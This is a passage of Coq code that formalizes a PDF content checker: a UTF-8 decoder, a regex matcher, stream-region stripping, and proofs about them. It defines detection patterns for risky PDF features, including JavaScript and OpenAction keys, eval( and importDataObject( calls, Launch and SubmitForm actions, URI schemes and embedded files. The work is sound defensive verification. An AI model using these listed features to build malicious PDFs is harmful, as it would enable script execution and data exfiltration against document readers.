      | _ :: t => option_map S (index_i pat t)
      end
  end.

(** The same letters up to ASCII case. *)
Definition same_letters (pat w : bytes) : Prop :=
  Forall2 (fun p b => ASCII_lower (code p) = ASCII_lower (code b)) pat w.

Definition no_space (pat : string) : Prop :=
  Forall (fun a => is_space_byte a = false) (str pat).

(** The classes of the patterns accept ASCII runes, the long s and the
    Kelvin sign only. *)
Definition folded (p : N -> bool) : Prop :=
  forall y, p y = true -> (y < 128)%N \/ y = 383%N \/ y = 8490%N.

Definition nonspace_class (p : N -> bool) : Prop :=
  forall y, is_space y = true -> p y = false.

(** The most bytes a rune of the class takes. *)
Definition max_eat (p : N -> bool) : nat :=
  if p 8490%N then 3 else if p 383%N then 2 else 1.

(** ** Whitespace collapsing

    [squeeze false s] is [s] with each maximal run of whitespace replaced
    by one space; [squeeze true] continues inside a run. *)
Fixpoint squeeze (in_run : bool) (s : bytes) : bytes :=
  match s with
  | [] => []
  | b :: t =>
      if is_space_byte b
      then if in_run then squeeze true t else " "%char :: squeeze true t
      else b :: squeeze false t
  end.

(** ** The two co-occurrence tests of the script detector *)

(** An angle-bracket-delimited string of four or more hex digits. *)
Definition has_angle_hex (t : bytes) : Prop :=
  exists a h b,
    t = a ++ "<"%char :: h ++ ">"%char :: b /\
    4 <= length h /\ Forall (fun x => is_hex_byte x = true) h.

(** A spelling of [javascript] or of [js], anywhere. *)
Definition has_js_word (t : bytes) : Prop :=
  exists a w b,
    t = a ++ w ++ b /\ (spells_i "javascript" w \/ spells_i "js" w).

(** ** The steps of [Check] *)

(** The structure check at the head of [Check]. *)
Definition checkStructure (data : bytes) : option error :=
  if length data =? 0 then Some ErrInvalidPDFStructure
  else if negb (Contains (firstn (header_limit data) data) (str "%PDF-"))
       then Some ErrInvalidPDFStructure
       else None.

(** The first error of a sequence of results. *)
Fixpoint first_error (results : list (option error)) : option error :=
  match results with
  | [] => None
  | Some err :: _ => Some err
  | None :: results' => first_error results'
  end.

(** ** Notions used to reason on the engine *)

(** The bytes between a cursor and a later one. *)
Definition span (c e : cursor) (w : bytes) : Prop :=
  rest c = w ++ rest e /\ prev e = last_byte w (prev c).

(** A class whose runes are spelled with bytes of [P] only. *)
Definition class_eats (P : ascii -> Prop) (p : N -> bool) : Prop :=
  forall c x c', step c = Some (x, c') -> p x = true ->
                 exists w, span c c' w /\ Forall P w.

(** The regular expressions whose classes all satisfy [C]. *)
Inductive built_from (C : (N -> bool) -> Prop) : regex -> Prop :=
| bf_empty : built_from C EmptyMatch
| bf_class p : C p -> built_from C (CharClass p)
| bf_concat r1 r2 :
    built_from C r1 -> built_from C r2 -> built_from C (Concat r1 r2)
| bf_alternate r1 r2 :
    built_from C r1 -> built_from C r2 -> built_from C (Alternate r1 r2)
| bf_star g r : built_from C r -> built_from C (Star g r)
| bf_boundary : built_from C WordBoundary.

(** A regular expression that never matches the empty string. *)
Definition consuming (r : regex) : Prop :=
  forall c e, In e (run r c) -> shorter c e = true.

(** The replacement loop with the fuel it needs. *)
Definition replace_from (r : regex) (repl : bytes) (c : cursor) : bytes :=
  replace_loop r repl (S (length (rest c))) c.

(** The part of [streamRx] after the begin keyword, and the pattern
    [(?i)\bhttps?://] of [externalRegexes]. *)
Definition stream_tail : regex :=
  (WordBoundary ;; lazy_star any ;; lit_i "endstream")%re.

Definition http_rx : regex :=
  (WordBoundary ;; lit_i "http" ;; opt (chr_i "s") ;; lit_i "://")%re.

(** What the [first] table of [utf8] says of a leading byte, as one
    boolean. *)
Definition first_ok (b : ascii) : bool :=
  let s0 := code b in
  match utf8.first s0 with
  | None => true
  | Some (sz, lo, hi) =>
      (128 <=? lo)%N && (hi <=? 191)%N && (128 <=? s0)%N &&
      match sz with
      | 2 => (N.land s0 31 =? s0 - 192)%N && (194 <=? s0)%N
      | 3 => (N.land s0 15 =? s0 - 224)%N && (224 <=? s0)%N
             && ((224 <? s0)%N || (160 <=? lo)%N)
      | 4 => (N.land s0 7 =? s0 - 240)%N && (240 <=? s0)%N
             && ((240 <? s0)%N || (144 <=? lo)%N)
      | _ => false
      end
  end.

(** The possible results of one [step] on a non-empty text. *)
Inductive step_shape (b : ascii) (t : bytes) : N -> cursor -> Prop :=
| shape_ascii :
    (code b < 128)%N -> step_shape b t (code b) (Cur (Some b) t)
| shape_error :
    (128 <= code b)%N -> step_shape b t utf8.RuneError (Cur (Some b) t)
| shape_two b1 t1 :
    t = b1 :: t1 -> (194 <= code b)%N -> is_cont_byte b1 = true ->
    step_shape b t ((code b - 192) * 64 + (code b1 - 128))%N
      (Cur (Some b1) t1)
| shape_three b1 b2 t2 :
    t = b1 :: b2 :: t2 -> (224 <= code b)%N ->
    is_cont_byte b1 = true -> is_cont_byte b2 = true ->
    (code b = 224%N -> (160 <= code b1)%N) ->
    step_shape b t
      ((code b - 224) * 4096 + (code b1 - 128) * 64 + (code b2 - 128))%N
      (Cur (Some b2) t2)
| shape_four b1 b2 b3 t3 :
    t = b1 :: b2 :: b3 :: t3 -> (240 <= code b)%N ->
    is_cont_byte b1 = true -> is_cont_byte b2 = true ->
    is_cont_byte b3 = true ->
    (code b = 240%N -> (144 <= code b1)%N) ->
    step_shape b t
      ((code b - 240) * 262144 + (code b1 - 128) * 4096
       + (code b2 - 128) * 64 + (code b3 - 128))%N
      (Cur (Some b3) t3).

Ltac bytecases b := destruct b as [[] [] [] [] [] [] [] []].

(** ** Markers

    What the detectors look for, as decompositions of the text. *)

(** A slash, whitespace and a spelling of [kw]. *)
Definition has_slash_keyword (kw : string) (t : bytes) : Prop :=
  exists a ws w b,
    t = a ++ "/"%char :: ws ++ w ++ b /\
    Forall (fun x => is_space_byte x = true) ws /\ spells_i kw w.

(** A spelling of [kw], whitespace and the character [punct]. *)
Definition has_call (kw : string) (punct : ascii) (t : bytes) : Prop :=
  exists a w ws b,
    t = a ++ w ++ ws ++ punct :: b /\
    Forall (fun x => is_space_byte x = true) ws /\ spells_i kw w.

(** The key [/FT] followed by the name [/sub]. *)
Definition has_field_type (sub : string) (t : bytes) : Prop :=
  exists a ws1 ft ws2 ws3 w b,
    t = a ++ "/"%char :: ws1 ++ ft ++ ws2 ++ "/"%char :: ws3 ++ w ++ b /\
    Forall (fun x => is_space_byte x = true) ws1 /\
    Forall (fun x => is_space_byte x = true) ws2 /\
    Forall (fun x => is_space_byte x = true) ws3 /\
    spells_i "FT" ft /\ spells_i sub w.

(** The key [/URI] with no word character after it. *)
Definition has_uri_key (t : bytes) : Prop :=
  exists a ws w b,
    t = a ++ "/"%char :: ws ++ w ++ b /\
    Forall (fun x => is_space_byte x = true) ws /\ spells_i "URI" w /\
    IsWordChar (hd_error b) = false.

(** A spelling of [scheme] with no word character before it. *)
Definition has_scheme (scheme : string) (t : bytes) : Prop :=
  exists a w b,
    t = a ++ w ++ b /\ IsWordChar (last_byte a None) = false /\
    spells_i scheme w.

(** A spelling of [JS(], whitespace, and [#] with two hex digits or more. *)
Definition has_hex_call (t : bytes) : Prop :=
  exists a w ws h b,
    t = a ++ w ++ ws ++ "#"%char :: h ++ b /\ spells_i "JS(" w /\
    Forall (fun x => is_space_byte x = true) ws /\
    Forall (fun x => is_hex_byte x = true) h /\ 2 <= length h.

(** A [#] with eight hex digits or more, and scripting vocabulary in the 80
    bytes before it. *)
Definition has_hex_window (t : bytes) : Prop :=
  exists a h b,
    t = a ++ "#"%char :: h ++ b /\ 8 <= length h /\
    Forall (fun x => is_hex_byte x = true) h /\ has_js_word (lastn 80 a).

(** The keywords of the four lists of patterns. *)
Definition script_keys : list string :=
  ["JavaScript"; "JS"; "OpenAction"]%string.

Definition script_calls : list (string * ascii) :=
  [("app"%string, "."%char); ("eval"%string, "("%char);
   ("document"%string, "."%char); ("this"%string, "."%char);
   ("getField"%string, "("%char); ("submitForm"%string, "("%char);
   ("importDataObject"%string, "("%char)].

Definition form_keys : list string := ["AcroForm"; "XFA"; "Widget"]%string.

Definition field_subtypes : list string := ["Tx"; "Ch"; "Btn"; "Sig"]%string.

Definition action_keys : list string :=
  ["GoToR"; "Launch"; "ImportData"; "SubmitForm"]%string.

Definition embedded_keys : list string :=
  ["EmbeddedFile"; "FileAttachment"; "Filespec"]%string.

(** What a direct pattern of the script detector finds in the collapsed
    text. *)
Definition has_direct_marker (u : bytes) : Prop :=
  (exists kw, In kw script_keys /\ has_slash_keyword kw u) \/
  (exists kp, In kp script_calls /\ has_call (fst kp) (snd kp) u) \/
  has_hex_call u.

Definition has_form_marker (t : bytes) : Prop :=
  (exists kw, In kw form_keys /\ has_slash_keyword kw t) \/
  (exists sub, In sub field_subtypes /\ has_field_type sub t).

Definition has_external_marker (u : bytes) : Prop :=
  (exists kw, In kw action_keys /\ has_slash_keyword kw u) \/
  has_uri_key u \/ has_call "URI" "(" u \/
  has_scheme "http://" u \/ has_scheme "https://" u \/
  has_scheme "file://" u \/ has_scheme "ftp://" u.

Definition has_embedded_marker (t : bytes) : Prop :=
  exists kw, In kw embedded_keys /\ has_slash_keyword kw t.

(** What the script detector reports: a direct marker in the stripped and
    collapsed text, a hex window, or an angle-bracket hex string together
    with scripting vocabulary. *)
Definition has_script_marker (content : bytes) : Prop :=
  let t := stripStreams content in
  has_direct_marker (collapseWhitespace t) \/ has_hex_window t \/
  (has_angle_hex t /\ has_js_word t).

(** The header marker within the first 1024 bytes of a buffer that is not
    empty. *)
Definition has_valid_header (data : bytes) : Prop :=
  data <> [] /\
  exists a b, firstn (Nat.min 1024 (length data)) data = a ++ str "%PDF-" ++ b.

(** No byte of [data] is one of [marks]. *)
Definition free_of (marks data : bytes) : bool :=
  forallb (fun b => negb (existsb (Ascii.eqb b) marks)) data.

(** Every whitespace byte is a space, and no two of them are adjacent. *)
Fixpoint single_spaced (s : bytes) : bool :=
  match s with
  | [] => true
  | b :: t =>
      (if is_space_byte b
       then Ascii.eqb b " " &&
            match t with
            | [] => true
            | b' :: _ => negb (is_space_byte b')
            end
       else true) && single_spaced t
  end.

(** ** The shapes of the patterns *)

(** [(?i)/\s*KEYWORD] *)
Definition slash_rx (kw : string) : regex :=
  (lit_i "/" ;; star space ;; lit_i kw)%re.

(** [(?i)KEYWORD\s*P] *)
Definition call_rx (kw punct : string) : regex :=
  (lit_i kw ;; star space ;; lit_i punct)%re.

Definition call_of (kp : string * ascii) : regex :=
  call_rx (fst kp) (String (snd kp) EmptyString).

(** [(?i)/\s*FT\s*/\s*SUBTYPE] *)
Definition field_type_rx (sub : string) : regex :=
  (lit_i "/" ;; star space ;; lit_i "FT" ;; star space ;; lit_i "/"
     ;; star space ;; lit_i sub)%re.

(** [(?i)JS\(\s*#(?:[0-9A-Fa-f]{2,})+] *)
Definition js_hex_call_rx : regex :=
  (lit_i "JS(" ;; star space ;; lit_i "#" ;; plus (at_least 2 hex))%re.

(** [(?i)/\s*URI\b] *)
Definition uri_key_rx : regex :=
  (lit_i "/" ;; star space ;; lit_i "URI" ;; WordBoundary)%re.

(** An ASCII character that folds with itself only. *)
Definition punct (c : ascii) : Prop :=
  (code c < 128)%N /\ fold_orbit (code c) = [code c].

(** Every match of the regular expression consumes the byte [x]. *)
Inductive requires (x : ascii) : regex -> Prop :=
| req_class p :
    (code x < 128)%N -> (forall y, p y = true -> y = code x) ->
    requires x (CharClass p)
| req_left r1 r2 : requires x r1 -> requires x (Concat r1 r2)
| req_right r1 r2 : requires x r2 -> requires x (Concat r1 r2)
| req_both r1 r2 :
    requires x r1 -> requires x r2 -> requires x (Alternate r1 r2).

(** ** Stream regions

    A region begins at a spelling of [stream] with no word character after
    it, and ends with the first spelling of [endstream] after the keyword. *)

(** A begin marker at the head of [s]: a spelling of [stream] with no word
    character after it. *)
Definition begins_region (s : bytes) : bool :=
  match prefix_i "stream" s with
  | Some (_, t) => negb (IsWordChar (hd_error t))
  | None => false
  end.

(** The offset of the first begin marker of [s]. *)
Fixpoint begin_index (s : bytes) : option nat :=
  if begins_region s then Some 0
  else match s with
       | [] => None
       | _ :: s' => option_map S (begin_index s')
       end.

(** The first stream region of [data], as the text before it and the text
    after it: from the first begin marker to the first spelling of
    [endstream] after its keyword.  [None] when there is no begin marker, or
    no spelling of [endstream] after the first one. *)
Definition first_region (data : bytes) : option (bytes * bytes) :=
  match begin_index data with
  | None => None
  | Some n =>
      match prefix_i "stream" (skipn n data) with
      | None => None
      | Some (_, body) =>
          match index_i "endstream" body with
          | None => None
          | Some k =>
              match prefix_i "endstream" (skipn k body) with
              | None => None
              | Some (_, post) => Some (firstn n data, post)
              end
          end
      end
  end.

(** [data] with each of its stream regions, from left to right, replaced by
    one space. *)
Fixpoint strip_regions (fuel : nat) (data : bytes) : bytes :=
  match fuel with
  | O => data
  | S fuel' =>
      match first_region data with
      | None => data
      | Some (pre, post) => pre ++ str " " ++ strip_regions fuel' post
      end
  end.

(** ** Characters

    [utf8.RuneCountInString]: the number of characters of a text, a byte
    that starts no valid sequence counting for one. *)
Fixpoint rune_count_loop (fuel : nat) (s : bytes) : nat :=
  match fuel with
  | O => 0
  | S fuel' =>
      match utf8.DecodeRune s with
      | (_, O) => 0
      | (_, w) => S (rune_count_loop fuel' (skipn w s))
      end
  end.

Definition rune_count (s : bytes) : nat := rune_count_loop (length s) s.

(** * The engine

    Lemmas on decoding, on [run] and on the search, and the readings of
    the patterns of the package that the claims rest on. *)

(** ** Bytes, prefixes and lists

    Facts on byte codes and ranges, on [HasPrefix] and [Contains], and the
    list lemmas the matcher needs. *)

Lemma code_lt_256 (b : ascii) : (code b < 256)%N.
Proof. unfold code. apply N_ascii_bounded. Qed.

Lemma code_inj a b : code a = code b -> a = b.
Proof.
  unfold code. intros H.
  rewrite <- (ascii_N_embedding a), <- (ascii_N_embedding b). now rewrite H.
Qed.

Lemma code_byte_of n : (n < 256)%N -> code (byte_of n) = n.
Proof. apply N_ascii_embedding. Qed.

(** [in_range] is the closed interval. *)
Lemma in_range_spec lo hi x : in_range lo hi x = true <-> (lo <= x <= hi)%N.
Proof.
  unfold in_range. rewrite andb_true_iff, !N.leb_le. tauto.
Qed.

Lemma in_range_false lo hi x :
  in_range lo hi x = false <-> ~ (lo <= x <= hi)%N.
Proof.
  rewrite <- in_range_spec. destruct (in_range lo hi x); split; intros H;
    try reflexivity; try discriminate; try tauto.
Qed.

Lemma range_cont lo hi x :
  (128 <= lo)%N -> (hi <= 191)%N ->
  in_range lo hi x = true -> utf8.is_cont x = true.
Proof.
  intros Hlo Hhi H. apply in_range_spec in H. apply in_range_spec. lia.
Qed.

(** [HasPrefix] and [Contains] against decompositions of the text. *)
Lemma HasPrefix_spec (s p : bytes) :
  HasPrefix s p = true <-> exists t, s = p ++ t.
Proof.
  revert s. induction p as [|a p IH]; intros s; cbn.
  - split; [intros _; now exists s | intros _; now destruct s].
  - destruct s as [|b s]; cbn.
    + split; [discriminate | intros [t H]; discriminate H].
    + destruct (Ascii.eqb b a) eqn:E.
      * apply Ascii.eqb_eq in E. subst. rewrite IH. split.
        -- intros [t ->]. now exists t.
        -- intros [t H]. injection H as ->. now exists t.
      * split; [discriminate|]. intros [t H]. injection H as -> _.
        now rewrite Ascii.eqb_refl in E.
Qed.

Lemma HasPrefix_app s p r : HasPrefix s p = true -> HasPrefix (s ++ r) p = true.
Proof.
  rewrite !HasPrefix_spec. intros [t ->]. exists (t ++ r). now rewrite app_assoc.
Qed.

Lemma HasPrefix_local u r p :
  HasPrefix (u ++ r) p = true -> length p <= length u -> HasPrefix u p = true.
Proof.
  revert u. induction p as [|a p IH]; intros u H L.
  - now destruct u.
  - destruct u as [|b u]; [cbn in L; lia|]. cbn in *.
    destruct (Ascii.eqb b a); [|discriminate]. apply IH; [assumption|lia].
Qed.

Lemma Contains_spec b sub :
  Contains b sub = true <-> exists a c, b = a ++ sub ++ c.
Proof.
  induction b as [|x b IH]; cbn [Contains].
  - destruct (HasPrefix [] sub) eqn:E.
    + split; [|reflexivity]. intros _. apply HasPrefix_spec in E as [t E].
      exists [], t. exact E.
    + split; [discriminate|]. intros (a & c & H).
      destruct a; [|discriminate].
      assert (HasPrefix [] sub = true); [|congruence].
      apply HasPrefix_spec. now exists c.
  - destruct (HasPrefix (x :: b) sub) eqn:E.
    + split; [|reflexivity]. intros _. apply HasPrefix_spec in E as [t E].
      exists [], t. exact E.
    + rewrite IH. split.
      * intros (a & c & ->). now exists (x :: a), c.
      * intros (a & c & H). destruct a as [|y a].
        -- assert (HasPrefix (x :: b) sub = true); [|congruence].
           apply HasPrefix_spec. now exists c.
        -- injection H as -> ->. now exists a, c.
Qed.

Lemma last_byte_app w1 w2 d :
  last_byte (w1 ++ w2) d = last_byte w2 (last_byte w1 d).
Proof. unfold last_byte. apply fold_left_app. Qed.

Lemma last_byte_nonempty w q q' : w <> [] -> last_byte w q = last_byte w q'.
Proof. destruct w; [congruence | reflexivity]. Qed.

Lemma flat_map_ext_In {A B} (f g : A -> list B) l :
  (forall a, In a l -> f a = g a) -> flat_map f l = flat_map g l.
Proof.
  induction l as [|a l IH]; intros H; [reflexivity|]. cbn.
  rewrite (H a) by now left. rewrite IH; [reflexivity|].
  intros; apply H; now right.
Qed.

Lemma flat_map_assoc {A B C} (f : A -> list B) (g : B -> list C) l :
  flat_map g (flat_map f l) = flat_map (fun a => flat_map g (f a)) l.
Proof.
  induction l as [|a l IH]; [reflexivity|]. cbn.
  now rewrite flat_map_app, IH.
Qed.

Lemma in_nonempty {A} (x : A) l : In x l -> l <> [].
Proof. intros H E. now rewrite E in H. Qed.

Lemma split_while (f : ascii -> bool) (s : bytes) :
  exists a s1, s = a ++ s1 /\ Forall (fun b => f b = true) a /\ not_starting f s1.
Proof.
  induction s as [|b s (a & s1 & -> & Ha & Hs)].
  - exists [], []. repeat split. constructor.
  - destruct (f b) eqn:E.
    + exists (b :: a), s1. repeat split; [|assumption]. now constructor.
    + exists [], (b :: a ++ s1). repeat split; [constructor | exact E].
Qed.

Lemma not_in_prefix (P : ascii -> Prop) w : Forall P w ->
  forall a c s t, ~ P c -> a ++ c :: s = w ++ t ->
  exists a', a = w ++ a' /\ t = a' ++ c :: s.
Proof.
  induction 1 as [|x w Hx _ IH]; intros a c s t Hc E.
  - exists a. now split.
  - destruct a as [|b a].
    + cbn in E. injection E as -> _. contradiction.
    + injection E as -> E. destruct (IH a c s t Hc E) as (a' & -> & ->).
      now exists a'.
Qed.

Lemma str_app (a b : string) : str (a ++ b) = str a ++ str b.
Proof.
  unfold str. induction a as [|c a IH]; [reflexivity|]. cbn. now rewrite IH.
Qed.

(** ** Decoding one rune

    [step] reads one byte of an ASCII text, the two bytes of U+017F, the
    three of U+212A; it always consumes something, and stepping rune by rune
    reaches every position that does not hold a continuation byte. *)

Lemma first_ok_all (b : ascii) : first_ok b = true.
Proof. bytecases b; vm_compute; reflexivity. Qed.

Lemma cont_land (b : ascii) :
  utf8.is_cont (code b) = true -> N.land (code b) 63 = (code b - 128)%N.
Proof. bytecases b; vm_compute; intros H; try reflexivity; discriminate H. Qed.

(** The shapes of one decoding step: an ASCII byte, a well-formed sequence
    of two, three or four bytes, or one byte read as the error rune. *)
Lemma step_cases (p : option ascii) (b : ascii) (t : bytes) :
  exists x c', step (Cur p (b :: t)) = Some (x, c') /\ step_shape b t x c'.
Proof.
  unfold step, utf8.DecodeRune. cbn [rest].
  destruct (code b <? utf8.RuneSelf)%N eqn:Ha.
  { apply N.ltb_lt in Ha. eexists _, _. split; [reflexivity|].
    cbn. now constructor. }
  apply N.ltb_ge in Ha. unfold utf8.RuneSelf in Ha.
  pose proof (first_ok_all b) as Hf. unfold first_ok in Hf.
  destruct (utf8.first (code b)) as [[[sz lo] hi]|].
  2:{ eexists _, _. split; [reflexivity|]. cbn. now constructor. }
  rewrite !andb_true_iff in Hf. destruct Hf as [[[Hlo Hhi] _] Hsz].
  apply N.leb_le in Hlo, Hhi.
  destruct (Nat.ltb (List.length (b :: t)) sz) eqn:Hlen.
  { eexists _, _. split; [reflexivity|]. cbn. now constructor. }
  destruct t as [|b1 t1].
  { eexists _, _. split; [reflexivity|]. cbn. now constructor. }
  destruct (in_range lo hi (code b1)) eqn:Hr1; cbn [negb].
  2:{ eexists _, _. split; [reflexivity|]. cbn. now constructor. }
  pose proof (range_cont lo hi _ Hlo Hhi Hr1) as Hc1.
  apply in_range_spec in Hr1.
  destruct sz as [|[|[|[|[|sz]]]]]; try discriminate Hsz.
  - (* two bytes *)
    rewrite !andb_true_iff, N.eqb_eq, N.leb_le in Hsz. destruct Hsz as [Hl H0].
    eexists _, _. split; [reflexivity|]. cbn.
    rewrite Hl, (cont_land b1 Hc1). now eapply shape_two.
  - (* three bytes *)
    rewrite !andb_true_iff, orb_true_iff, N.eqb_eq, N.leb_le, N.ltb_lt, N.leb_le
      in Hsz.
    destruct Hsz as [[Hl H0] H1]. cbn [Nat.leb].
    destruct t1 as [|b2 t2].
    { eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    destruct (utf8.is_cont (code b2)) eqn:Hc2; cbn [negb].
    2:{ eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    eexists _, _. split; [reflexivity|]. cbn.
    rewrite Hl, (cont_land b1 Hc1), (cont_land b2 Hc2).
    eapply shape_three; eauto. lia.
  - (* four bytes *)
    rewrite !andb_true_iff, orb_true_iff, N.eqb_eq, N.leb_le, N.ltb_lt, N.leb_le
      in Hsz.
    destruct Hsz as [[Hl H0] H1]. cbn [Nat.leb].
    destruct t1 as [|b2 t2].
    { eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    destruct (utf8.is_cont (code b2)) eqn:Hc2; cbn [negb].
    2:{ eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    destruct t2 as [|b3 t3].
    { eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    destruct (utf8.is_cont (code b3)) eqn:Hc3; cbn [negb].
    2:{ eexists _, _. split; [reflexivity|]. cbn. now constructor. }
    eexists _, _. split; [reflexivity|]. cbn.
    rewrite Hl, (cont_land b1 Hc1), (cont_land b2 Hc2), (cont_land b3 Hc3).
    eapply shape_four; eauto. lia.
Qed.

Lemma step_nil p : step (Cur p []) = None.
Proof. reflexivity. Qed.

(** The three steps that the patterns of the package can match. *)
Lemma step_ascii p b t :
  (code b < 128)%N -> step (Cur p (b :: t)) = Some (code b, Cur (Some b) t).
Proof.
  intros H. unfold step, utf8.DecodeRune. cbn [rest].
  apply N.ltb_lt in H. unfold utf8.RuneSelf. now rewrite H.
Qed.

Lemma step_long_s p t :
  step (Cur p (long_s ++ t)) = Some (383%N, Cur (Some (byte_of 191)) t).
Proof. reflexivity. Qed.

Lemma step_kelvin p t :
  step (Cur p (kelvin ++ t)) = Some (8490%N, Cur (Some (byte_of 170)) t).
Proof. reflexivity. Qed.

(** A rune of two or more bytes, or the error rune, is at least 128; it is
    the long s or the Kelvin sign only for their own encodings. *)
Lemma step_shape_nonascii b t x c' :
  step_shape b t x c' -> (128 <= code b)%N ->
  (128 <= x)%N /\
  (x = 383%N -> exists t', b :: t = long_s ++ t') /\
  (x = 8490%N -> exists t', b :: t = kelvin ++ t').
Proof.
  intros H Hb. pose proof (code_lt_256 b) as Bb.
  destruct H as [Ha | _ | b1 t1 -> H0 H1 | b1 b2 t2 -> H0 H1 H2 H3
                 | b1 b2 b3 t3 -> H0 H1 H2 H3 H4].
  - lia.
  - unfold utf8.RuneError. repeat split; try lia; intros; discriminate.
  - apply in_range_spec in H1. pose proof (code_lt_256 b1).
    repeat split; try lia.
    + intros E. exists t1. unfold long_s. cbn.
      assert (code b = 197%N) as E0 by lia. assert (code b1 = 191%N) as E1 by lia.
      f_equal; [|f_equal]; apply code_inj; [rewrite E0|rewrite E1]; reflexivity.
  - apply in_range_spec in H1, H2. pose proof (code_lt_256 b1).
    pose proof (code_lt_256 b2).
    assert ((code b = 224 \/ 225 <= code b)%N) as [E|E] by lia.
    + specialize (H3 E). repeat split; try lia.
    + repeat split; try lia.
      intros E'. exists t2. unfold kelvin. cbn.
      assert (code b = 226%N) as E0 by lia. assert (code b1 = 132%N) as E1 by lia.
      assert (code b2 = 170%N) as E2 by lia.
      f_equal; [|f_equal; [|f_equal]]; apply code_inj;
        [rewrite E0|rewrite E1|rewrite E2]; reflexivity.
  - apply in_range_spec in H1, H2, H3.
    assert ((code b = 240 \/ 241 <= code b)%N) as [E|E] by lia.
    + specialize (H4 E). repeat split; try lia.
    + repeat split; try lia.
Qed.

(** A step consumes the first byte and continuation bytes only. *)
Lemma step_decomp q b t x c' :
  step (Cur q (b :: t)) = Some (x, c') ->
  exists w t1, t = w ++ t1 /\ c' = Cur (last_byte (b :: w) q) t1 /\
               Forall (fun a => is_cont_byte a = true) w.
Proof.
  intros H. destruct (step_cases q b t) as (x' & c'' & Hs & Sh).
  rewrite Hs in H. injection H as <- <-.
  destruct Sh as [| | b1 t1 E | b1 b2 t2 E | b1 b2 b3 t3 E].
  - now exists [], t.
  - now exists [], t.
  - exists [b1], t1. repeat split; auto.
  - exists [b1; b2], t2. repeat split; auto.
  - exists [b1; b2; b3], t3. repeat split; auto.
Qed.

Lemma step_some q b t : exists x c', step (Cur q (b :: t)) = Some (x, c').
Proof. destruct (step_cases q b t) as (x & c' & H & _). eauto. Qed.

Lemma shorter_spec c c' :
  shorter c c' = true <-> length (rest c') < length (rest c).
Proof. unfold shorter. apply Nat.ltb_lt. Qed.

Lemma step_shorter c x c' : step c = Some (x, c') -> shorter c c' = true.
Proof.
  destruct c as [q [|b t]]; [discriminate|]. intros H.
  apply step_decomp in H as (w & t1 & -> & -> & _).
  apply shorter_spec. cbn. rewrite length_app. lia.
Qed.

(** Decoding does not look at the byte before the cursor. *)
Lemma step_prev q q' s : step (Cur q s) = step (Cur q' s).
Proof.
  unfold step. cbn [rest].
  destruct (utf8.DecodeRune s) as [x [|n]] eqn:E; [reflexivity|].
  destruct s as [|b t]; [discriminate E | reflexivity].
Qed.

Lemma ascii_not_cont b : (code b < 128)%N -> is_cont_byte b = false.
Proof.
  intros H. unfold is_cont_byte, utf8.is_cont.
  destruct (in_range 128 191 (code b)) eqn:E; [|reflexivity].
  apply in_range_spec in E. lia.
Qed.

Lemma rune_start_ascii b s : (code b < 128)%N -> rune_start (b :: s).
Proof. apply ascii_not_cont. Qed.

Lemma cont_prefix w : Forall (fun a => is_cont_byte a = true) w ->
  forall a s t, rune_start s -> a ++ s = w ++ t ->
  exists a', a = w ++ a' /\ t = a' ++ s.
Proof.
  induction 1 as [|c w Hc _ IH]; intros a s t Hs E.
  - exists a. now split.
  - destruct a as [|b a].
    + cbn in E. subst s. cbn in Hs. congruence.
    + injection E as -> E. destruct (IH a s t Hs E) as (a' & -> & ->).
      now exists a'.
Qed.

(** Walking the runes of [a ++ s] from the left reaches [s] when [s]
    starts a rune. *)
Lemma rune_walk (s : bytes) (P : option ascii -> bytes -> Prop) :
  rune_start s ->
  (forall q, P q []) ->
  (forall q b w a x,
      step (Cur q (b :: w ++ a ++ s))
      = Some (x, Cur (last_byte (b :: w) q) (a ++ s)) ->
      P (last_byte (b :: w) q) a -> P q (b :: w ++ a)) ->
  forall a q, P q a.
Proof.
  intros Hs H0 HS a.
  assert (forall n a, length a <= n -> forall q, P q a) as H;
    [|now apply (H (length a))].
  clear a. induction n as [|n IH]; intros a Hn q.
  { destruct a; [apply H0 | cbn in Hn; lia]. }
  destruct a as [|b a]; [apply H0|].
  destruct (step_some q b (a ++ s)) as (x & c' & Hstep).
  destruct (step_decomp _ _ _ _ _ Hstep) as (w & t1 & E & -> & Hw).
  destruct (cont_prefix w Hw a s t1 Hs E) as (a' & -> & ->).
  apply HS with (x := x).
  - rewrite <- app_assoc in Hstep. exact Hstep.
  - apply IH. cbn in Hn. rewrite length_app in Hn. lia.
Qed.

(** ** The matcher

    Equations of [run] that do not mention fuel, membership in [run] of a
    concatenation and of a repetition, and what a match consumed. *)

Lemma filter_shorter_nil c l : length (rest c) = 0 -> filter (shorter c) l = [].
Proof.
  intros H. induction l as [|a l IH]; [reflexivity|]. cbn [filter].
  destruct (shorter c a) eqn:E; [|exact IH].
  apply shorter_spec in E. lia.
Qed.

Lemma star_loop_fuel body g : forall f1 f2 c,
  length (rest c) <= f1 -> length (rest c) <= f2 ->
  star_loop body g f1 c = star_loop body g f2 c.
Proof.
  induction f1 as [|f1 IH]; intros [|f2] c H1 H2; cbn [star_loop];
    try reflexivity.
  - rewrite filter_shorter_nil by lia. now destruct g.
  - rewrite filter_shorter_nil by lia. now destruct g.
  - rewrite (flat_map_ext_In (star_loop body g f1) (star_loop body g f2));
      [reflexivity|].
    intros a Ha. apply filter_In in Ha as [_ Ha]. apply shorter_spec in Ha.
    apply IH; lia.
Qed.

(** A repetition without its fuel: the iterations that made progress, and
    the empty iteration last (greedy) or first (lazy). *)
Lemma run_star_unfold g r c :
  run (Star g r) c =
  let more := flat_map (run (Star g r)) (filter (shorter c) (run r c)) in
  if g then more ++ [c] else c :: more.
Proof.
  cbn [run]. destruct (length (rest c)) as [|n] eqn:E; cbn [star_loop].
  - rewrite filter_shorter_nil by assumption. now destruct g.
  - cbv zeta.
    rewrite (flat_map_ext_In (star_loop (run r) g n)
               (fun c' => star_loop (run r) g (length (rest c')) c'));
      [reflexivity|].
    intros a Ha. apply filter_In in Ha as [_ Ha]. apply shorter_spec in Ha.
    apply star_loop_fuel; lia.
Qed.

(** Membership in the results of a concatenation and of a repetition. *)
Lemma in_run_concat r1 r2 c c1 e :
  In c1 (run r1 c) -> In e (run r2 c1) -> In e (run (Concat r1 r2) c).
Proof. intros H1 H2. cbn [run]. apply in_flat_map. eauto. Qed.

Lemma in_run_concat_inv r1 r2 c e :
  In e (run (Concat r1 r2) c) ->
  exists c1, In c1 (run r1 c) /\ In e (run r2 c1).
Proof. cbn [run]. intros H. now apply in_flat_map in H. Qed.

